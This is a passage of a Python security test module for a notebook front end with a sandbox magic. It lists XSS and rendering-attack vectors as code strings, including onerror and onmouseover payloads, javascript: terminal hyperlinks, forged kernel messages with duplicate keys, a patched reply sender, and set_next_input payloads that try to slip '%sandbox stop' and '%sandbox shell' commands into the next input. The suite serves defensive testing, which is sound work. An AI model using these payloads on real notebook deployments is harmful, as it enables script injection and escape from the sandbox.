            'show({\'image/svg+xml\': \'<?xml-stylesheet href="@URL@/s.css"?><svg xmlns="http://www.w3.org/2000/svg">'
            "<style>@import url(@URL@/i.css);</style></svg>', 'text/plain': 'x'})"
        ),
        frozenset(),
    ),
    "stderr-mime": (
        "show({'application/vnd.jupyter.stderr': SCRIPTED, 'application/vnd.jupyter.stdout': SCRIPTED})",
        frozenset(),
    ),
    "pager": (
        (
            "get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0,"
            "'data': {'text/html': SCRIPTED, 'text/plain': 'x'}})"
        ),
        SCRIPT,
    ),
    "pager-javascript": (
        (
            "get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0,"
            "'data': {'application/javascript': \"@JS@\", 'text/plain': 'x'}})"
        ),
        SCRIPT,
    ),
    "pager-remote-image": (
        (
            "get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0,"
            "'data': {'text/html': '<img src=\"@URL@/page.png\">', 'text/plain': 'x'}})"
        ),
        FETCH,
    ),
    "stream": ("print(SCRIPTED); print('<script>@JS@</script>')", frozenset()),
    "stream-controls": (
        (
            "print('\\x1b]8;;javascript:@JS@\\x07bait\\x1b]8;;\\x07')\n"
            "print('\\x1b]8;;@URL@/osc\\x1b\\\\x\\x1b]8;;\\x1b\\\\ \\x1b]0;title\\x07\\x1b[2J\\x1b[31m' + SCRIPTED)"
        ),
        frozenset(),
    ),
    "stream-link": ('print(\'http://a"onmouseover="@JS@" @LOCAL@/x"><img src=x onerror="@JS@">\')', frozenset()),
    "traceback": ("class E(Exception):\n    pass\nE.__name__ = SCRIPTED\nraise E(SCRIPTED)", frozenset()),
    "traceback-forged": (
        "forge('error', {'ename': SCRIPTED, 'evalue': SCRIPTED, 'traceback': [SCRIPTED, '\\x1b[31m' + SCRIPTED]})",
        frozenset(),
    ),
    "forged-display": (
        "forge('display_data', {'data': {'text/html': SCRIPTED}, 'metadata': {}, 'transient': {}})",
        SCRIPT,
    ),
    "forged-result": (
        "forge('execute_result', {'data': {'text/html': SCRIPTED}, 'metadata': {}, 'execution_count': 1})",
        SCRIPT,
    ),
    "forged-parent": (
        (
            "forge('display_data', {'data': {'text/html': SCRIPTED}, 'metadata': {}, 'transient': {}},"
            " parent={'header': {'msg_id': 'nobody', 'msg_type': 'execute_request'}})"
        ),
        frozenset(),
    ),
    "forged-duplicate-keys": (
        (
            "parts = kernel.session.serialize(kernel.session.msg('display_data', {'data': {'text/plain': 'x'}, 'metadata': {}},"
            " parent=kernel.get_parent()))\n"
            'parts[-1] = b\'{"metadata":{},"data":{"text/plain":"x"},"data":{"text/html":\' + json.dumps(SCRIPTED).encode() + b\'}}\'\n'
            "kernel.iopub_thread.send_multipart([b'kernel.display_data', *parts])"
        ),
        SCRIPT,
    ),
    "forged-duplicate-types": (
        (
            "parts = kernel.session.serialize(kernel.session.msg('display_data', {'data': {'text/plain': 'x'}, 'metadata': {}},"
            " parent=kernel.get_parent()))\n"
            'parts[-4] = parts[-4][:-1] + b\',"msg_type":"stream","msg_type":"display_data"}\'\n'
            'parts[-1] = b\'{"name":"stdout","text":"x","metadata":{},"data":{"text/html":\' + json.dumps(SCRIPTED).encode() + b\'}}\'\n'
            "kernel.iopub_thread.send_multipart([b'kernel.display_data', *parts])"
        ),
        SCRIPT,
    ),
    "forged-reply": (
        (
            "send = kernel.session.send\n"
            "def forged(stream, msg_or_type, content=None, *a, **k):\n"
            "    if msg_or_type == 'execute_reply':\n"
            "        kernel.session.send = send\n"
            "        content = {**content, 'payload': [{'source': 'page', 'data': {'text/html': SCRIPTED}, 'start': 0}],"
            "'user_expressions': {'a': {'status': 'ok', 'data': {'text/html': SCRIPTED}, 'metadata': {}}}}\n"
            "    return send(stream, msg_or_type, content, *a, **k)\n"
            "kernel.session.send = forged"
        ),
        SCRIPT,
    ),
    "next-input-command": (
        (
            "for text in ('%sandbox stop', ' \\n# note\\n%sandbox shell touch @NAME@', '%%sandbox\\nstop'):\n"
            "    get_ipython().payload_manager.write_payload({'source': 'set_next_input', 'text': text, 'replace': False})"
        ),
        frozenset(),
    ),
    "next-input-replaces": (
        (
            "get_ipython().payload_manager.write_payload("
            "{'source': 'set_next_input', 'text': '%sandbox stop', 'replace': True})"
        ),
        frozenset(),
    ),
    "forged-nonsense": (
        (
            "for msg_type in ('shutdown_reply', 'kernel_info_reply', 'input_request', 'execute_request', 'iopub_welcome',"
            " 'comm_close', 'nonsense', '', 'clear_output', 'execute_input'):\n"
            "    forge(msg_type, {'status': 'ok', 'restart': False, 'prompt': SCRIPTED, 'password': False, 'code': SCRIPTED})\n"
            "for state in ('dead', 'restarting', 'autorestarting', 'terminating', 'unknown'):\n"
            "    forge('status', {'execution_state': state, 'x': 'busy'}, parent={'header': {}})\n"
            "    forge('status', {'execution_state': state, 'x': 'busy'})"
        ),
        frozenset(),
    ),
}

CLICKED = {"away-html-link-top": FETCH}
"""A person who clicks a link asks for it; it may open beside the page, not in its place."""


def _vectors() -> list[Vector]:
    frames = {f"frame-{name}": (f'html(r"<script>{script}</script>")', opens)
              for name, (script, opens) in {**_FRAMED, **frame_vectors.IN_FRAMES}.items()}  # fmt: skip
    pages = {
        f"html-{name}": (f"html(r'''{text}''')", opens) for name, (text, opens) in {**_HTML, **further.PAGES}.items()
    }
    widgets = {f"widget-{name}": entry for name, entry in {**_WIDGETS, **further.WIDGETS}.items()}
    markdown = {
        f"markdown-{name}": (f"display(Markdown({text}))", opens)
        for name, (text, opens) in {**_MARKDOWN, **further.MARKDOWN}.items()
    }
    latex = {
        f"latex-{name}": (f"display(Latex({text}))", opens)
        for name, (text, opens) in {**_LATEX, **further.LATEX}.items()
    }
    all_of_them = {**pages, **frames, **_OTHER, **further.OTHER, **markdown, **latex, **widgets}
    return [Vector(name, code, opens) for name, (code, opens) in all_of_them.items()]


def _destructive() -> list[Vector]:
    scripts = {
        f"away-{name}": f'html(r"<script>{script}</script>")'
        for name, script in {**_DESTRUCTIVE_SCRIPTS, **frame_vectors.AWAY}.items()
    }
    pages = {f"away-html-{name}": f"html(r'''{text}''')" for name, text in _DESTRUCTIVE_HTML.items()}
    return [Vector(name, code, CLICKED.get(name, frozenset())) for name, code in {**scripts, **pages}.items()]


VECTORS = _vectors()
CONNECTING = [
    Vector(f"connect-{name}", f'html(r"<script>{script}</script>")')
    for name, script in frame_vectors.CONNECTING.items()
]
DESTRUCTIVE = _destructive()
"""Vectors that would take away the page that is looked at; nothing but a guard makes them bearable."""
